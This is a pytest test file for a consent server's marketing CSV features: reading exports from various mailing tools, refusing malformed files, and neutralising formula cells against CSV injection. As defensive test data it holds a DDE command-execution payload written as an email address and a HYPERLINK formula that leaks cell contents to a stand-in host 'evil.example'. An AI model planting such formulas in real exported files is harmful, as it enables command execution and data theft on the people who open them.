"""The files marketing tools really export, through every CSV path (API, CLI, console), and
formula cells neutralised in every CSV we write (REQ M-09; OWASP's CSV injection rule)."""
import csv
import io
import json
from pathlib import Path

import pytest

from consent_server import csvfiles
from consent_server.consent import devices

EXPORTS = Path(__file__).parent / "data" / "exports"
# Each file as its tool writes it: (delimiter, encoding, address column). Written from the
# tools' documented layouts; the test reads them with these, csvfiles must find them alone.
FILES = {
    "mailchimp.csv": (",", "utf-8", "Email Address"),
    "listmonk.csv": (",", "utf-8", "email"),
    "brevo.csv": (";", "utf-8", "EMAIL"),
    "mailerlite.csv": (",", "utf-8", "Email"),
    "hubspot.csv": (",", "utf-8", "Email"),
    "excel-nb-utf8.csv": (";", "utf-8-sig", "E-post"),
    "excel-nb-windows1252.csv": (";", "cp1252", "E-post"),
    "excel-unicode.txt": ("\t", "utf-16", "E-post"),
    "numbers.csv": (",", "utf-8", "E-postadresse"),
}
# Every file lists the same four people: a confirmed subscriber, a stranger, a sign-up not
# confirmed yet and a cell that is no address.
EXPECTED = [("allowed", "consent"), ("denied", "no_consent"), ("denied", "pending"),
            ("denied", "invalid")]
SUMMARY = "checked=4, allowed=1, denied=3, consent=1, no_consent=1, pending=1, invalid=1"


@pytest.fixture
def app_settings(mail_settings):
    """The app mails through the test SMTP server."""
    return mail_settings


@pytest.fixture
def people(client, smtp, confirmed, sign_up):
    """The files' people: Kari confirmed for the newsletter, Bjørn signed up, not confirmed."""
    confirmed(client, smtp, "Kari.Nordmann@example.no")
    assert sign_up(client, "bjorn.aerlig@example.no").status_code == 202


def original(name: str) -> tuple[list[str], list[list[str]]]:
    """A test file's header and rows, read with what we know of it."""
    delimiter, encoding, _column = FILES[name]
    text = (EXPORTS / name).read_bytes().decode(encoding)
    rows = [row for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            if row]
    return rows[0], rows[1:]


def answered(name: str, data: bytes) -> tuple[list[str], list[list[str]]]:
    """A checked file's header and rows: UTF-8 (a BOM when the input had one or was not
    UTF-8), the input's delimiter."""
    delimiter, encoding, _column = FILES[name]
    assert data.startswith(b"\xef\xbb\xbf") == (encoding != "utf-8")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""),
                           delimiter=delimiter))
    return rows[0], rows[1:]


def assert_checked(name: str, data: bytes) -> None:
    """Every input column back in order, each cell unchanged but a formula-like one, which has
    a `'` in front; consent_status and consent_reason added with the expected answers."""
    header, rows = original(name)
    got_header, got_rows = answered(name, data)
    assert got_header == header + ["consent_status", "consent_reason"]
    assert len(got_rows) == len(rows) == 4
    for row, got, expected in zip(rows, got_rows, EXPECTED, strict=True):
        assert got[:-2] == ["'" + c if c[:1] in ("=", "+", "-", "@") else c for c in row]
        assert tuple(got[-2:]) == expected


@pytest.mark.parametrize("name", sorted(FILES))
def test_each_tools_export_checks_through_the_api(client, api_key, people, name):
    """REQ M-09: found column, sniffed delimiter, detected encoding; the same file back."""
    response = client.post("/api/v1/marketing/check?purpose=newsletter", headers=api_key(),
                           data=(EXPORTS / name).read_bytes(), content_type="text/csv")
    assert response.status_code == 200, response.get_json()
    assert response.headers["Consent-Check-Summary"] == SUMMARY
    assert_checked(name, response.get_data())


@pytest.mark.parametrize("name", sorted(FILES))
def test_each_tools_export_checks_through_the_cli(app, people, tmp_path, name):
    """REQ M-09: `flask consent check`, the counts per reason on standard error."""
    out = tmp_path / "out.csv"
    result = app.test_cli_runner().invoke(args=[
        "consent", "check", "--purpose", "newsletter", "--out", str(out), str(EXPORTS / name)])
    assert result.exit_code == 0, result.output
    assert "1 of 4 allowed for newsletter" in result.output
    for line in ("consent: 1", "no_consent: 1", "pending: 1", "invalid: 1"):
        assert line in result.output
    assert_checked(name, out.read_bytes())


@pytest.mark.parametrize("name", sorted(FILES))
def test_each_tools_export_checks_through_the_console(app, people, signed_in, csrf_token, name):
    """REQ M-09: the console's Check page takes the same files."""
    marketer = signed_in(app, "marketer@example.com", "marketing")
    url = "/console/marketing/check"
    response = marketer.post(url, content_type="multipart/form-data", data={
        "csrf_token": csrf_token(marketer, url), "purpose": "newsletter",
        "file": (io.BytesIO((EXPORTS / name).read_bytes()), name)})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Consent-Check-Summary"] == SUMMARY
    assert_checked(name, response.get_data())


def test_the_check_page_has_the_labels_of_the_counts(app, signed_in):
    """REQ M-09: the page shows the counts of the answer's header after the download."""
    marketer = signed_in(app, "marketer@example.com", "marketing")
    html = marketer.get("/console/marketing/check").get_data(as_text=True)
    assert 'id="check-summary"' in html and "adresser sjekket" in html
    with marketer.get("/console/static/check.js") as script:
        assert 'getResponseHeader("Consent-Check-Summary")' in script.get_data(as_text=True)


def test_a_json_check_answers_with_its_counts(client, api_key, people):
    response = client.post("/api/v1/marketing/check", headers=api_key(), json={
        "purpose": "newsletter", "emails": ["Kari.Nordmann@example.no", "ola@example.no",
                                           "bjorn.aerlig@example.no", "nope", "per@example.no"]})
    assert response.get_json()["summary"] == {
        "checked": 5, "allowed": 1, "denied": 4,
        "reasons": {"consent": 1, "no_consent": 2, "pending": 1, "invalid": 1}}


def test_a_column_is_named_when_it_is_not_found_by_its_name(app, client, api_key, people,
                                                             tmp_path):
    """REQ M-09: `?column=` and `--column` name the address column, in any case."""
    body = b"Navn,Kontakt\r\nKari,Kari.Nordmann@example.no\r\n"
    key = api_key()
    refused = client.post("/api/v1/marketing/check?purpose=newsletter", headers=key,
                          data=body, content_type="text/csv")
    assert refused.status_code == 422
    assert "“Navn”, “Kontakt”" in refused.get_json()["detail"]
    named = client.post("/api/v1/marketing/check?purpose=newsletter&column=kontakt",
                        headers=key, data=body, content_type="text/csv")
    assert named.status_code == 200
    assert named.get_data(as_text=True).splitlines()[1] == (
        "Kari,Kari.Nordmann@example.no,allowed,consent")
    given = tmp_path / "l.csv"
    given.write_bytes(body)
    result = app.test_cli_runner().invoke(args=["consent", "check", "--purpose", "newsletter",
                                                "--column", "KONTAKT", str(given)])
    assert result.exit_code == 0 and "allowed,consent" in result.output
    wrong = client.post("/api/v1/marketing/check?purpose=newsletter&column=epost",
                        headers=key, data=body, content_type="text/csv")
    assert wrong.status_code == 422 and "no column named “epost”" in wrong.get_json()["detail"]


@pytest.mark.parametrize("data, words", [
    (b"", ["empty"]),
    (b"Navn;Telefon\r\nKari;+4790000000\r\n",
     ["no address column", "semicolon-separated", "“Navn”, “Telefon”"]),
    (b"Navn\tTelefon\r\nKari\t1\r\n", ["tab-separated", "“Navn”, “Telefon”"]),
    (b"email,status,consent_status\r\na@example.no,x,y\r\n", ["“consent_status”", "rename"]),
    (b"email,E-post\r\na@example.no,b@example.no\r\n", ["several address columns",
                                                       "“email”, “E-post”"]),
    (b"email,navn\r\na@example.no,Kari,Oslo\r\n", ["Line 2 has 3 cells", "header has 2"]),
    (b"PK\x03\x04\x14\x00\x06\x00\x08\x00[Content_Types].xml", ["Excel workbook"]),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", ["old Excel workbook"]),
    (b"\xef\xbb\xbfemail\r\n\xff\xfe@example.no\r\n", ["utf-8-sig byte order mark"]),
])
def test_each_refusal_names_the_real_problem(client, api_key, data, words):
    """REQ M-09: the delimiter found, the headers seen, the encoding; problem+json 422."""
    response = client.post("/api/v1/marketing/check?purpose=newsletter", headers=api_key(),
                           data=data, content_type="text/csv")
    assert response.status_code == 422 and response.mimetype == "application/problem+json"
    for word in words:
        assert word in response.get_json()["detail"]


def test_windows_1252_and_utf16_without_a_mark_are_detected_by_the_library():
    """REQ M-09: charset-normalizer, not a guess by hand."""
    text = "E-post;Navn;Kommentar\r\nkari@example.no;Kari Ødegård;Ønsker tilbud på sykler\r\n"
    for encoding in ("cp1252", "utf-16-le"):
        table = csvfiles.read(text.encode(encoding), 10)
        assert table.header == ["E-post", "Navn", "Kommentar"]
        assert table.rows == [["kari@example.no", "Kari Ødegård", "Ønsker tilbud på sykler"]]
        assert table.marked


def test_too_many_rows_is_a_413(client, api_key, config):
    config["CHECK_MAX_ADDRESSES"] = 2
    response = client.post("/api/v1/marketing/check?purpose=newsletter", headers=api_key(),
                           data=b"e-post\na@example.no\nb@example.no\nc@example.no\n",
                           content_type="text/csv")
    assert response.status_code == 413 and "At most 2 rows" in response.get_json()["detail"]


def test_customers_take_a_norwegian_excel_file(client, api_key, check):
    """REQ M-09: the customers import reads through the same reader (semicolon, BOM)."""
    key = api_key()
    body = ("\ufeffE-post;Sale_Date;Product Category;opt_out_offered\r\n"
            "kunde@example.no;2026-10-01;sko;true\r\n").encode()
    response = client.post("/api/v1/marketing/customers", headers=key, data=body,
                           content_type="text/csv")
    assert response.status_code == 201 and response.get_json() == {"recorded": 1}
    assert check(client, key, "marketing", ["kunde@example.no"],
                 product_category="sko") == [("allowed", "customer")]


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+47 912 34 567", "'+47 912 34 567"), ("-5", "'-5"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'quoted", "''quoted"),
    ("Kari", "Kari"), ("", ""), (None, ""), (7, "7"),
])
def test_formula_cells_are_neutralised_and_the_value_comes_back(value, written):
    """OWASP CSV injection: a `'` in front; csvfiles.unsafe gives the value back."""
    assert csvfiles.safe(value) == written
    if isinstance(value, str):
        assert csvfiles.unsafe(written) == value


def test_the_audience_neutralises_formula_addresses(app, client, smtp, api_key, confirmed,
                                                    signed_in, csrf_token):
    """Valid addresses that a spreadsheet would run, in the API's and the console's CSV."""
    for address in ("=cmd|'/Ccalc'!A0@example.no", "+1+1@example.no", "-2@example.no"):
        confirmed(client, smtp, address)
    response = client.get("/api/v1/marketing/audience?purpose=newsletter&format=csv",
                          headers=api_key())
    emails = [row["email"] for row in csv.DictReader(io.StringIO(response.get_data(
        as_text=True)))]
    assert sorted(emails) == ["'+1+1@example.no", "'-2@example.no",
                              "'=cmd|'/Ccalc'!A0@example.no"]
    marketer = signed_in(app, "marketer@example.com", "marketing")
    url = "/console/marketing/audience"
    page = marketer.post(url, data={"csrf_token": csrf_token(marketer, url),
                                    "purpose": "newsletter"})
    emails = [row["email"] for row in csv.DictReader(io.StringIO(page.get_data(as_text=True)))]
    assert sorted(emails) == ["'+1+1@example.no", "'-2@example.no",
                              "'=cmd|'/Ccalc'!A0@example.no"]


def test_the_audit_csv_neutralises_a_user_agent_and_the_ndjson_keeps_it(client, api_key):
    """An anonymous POST's user agent, in the API's CSV (SQLite: Python's rows; PostgreSQL:
    the server's COPY), neutralised in SQL; NDJSON holds the value as it was."""
    agent = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    posted = client.post("/api/v1/consents", headers={"User-Agent": agent}, json={
        "choices": {"analytics": True, "marketing": False}, "policy_version": "1",
        "language": "nb"})
    assert posted.status_code == 201
    auditor = api_key("auditor")
    body = client.get("/api/v1/audit/events?format=csv", headers=auditor).get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert [row["user_agent"] for row in rows] == ["'" + agent]
    assert not [cell for row in rows for cell in row.values() if cell[:1] and cell[0] in "=+-@"]
    ndjson = client.get("/api/v1/audit/events?format=ndjson", headers=auditor)
    assert [json.loads(line)["user_agent"] for line in ndjson.get_data(
        as_text=True).splitlines()] == [agent]


def test_a_consent_id_never_starts_with_a_dash(monkeypatch):
    """1 in 64 random ids would; such a draw is drawn again."""
    draws = iter(["-starts-with-a-dash-xx", "_fine-and-random-1234"])
    monkeypatch.setattr(devices.secrets, "token_urlsafe", lambda n: next(draws))
    assert devices.new_consent_id() == "_fine-and-random-1234"
    monkeypatch.undo()
    assert not [i for i in (devices.new_consent_id() for _ in range(2000)) if i[0] == "-"]
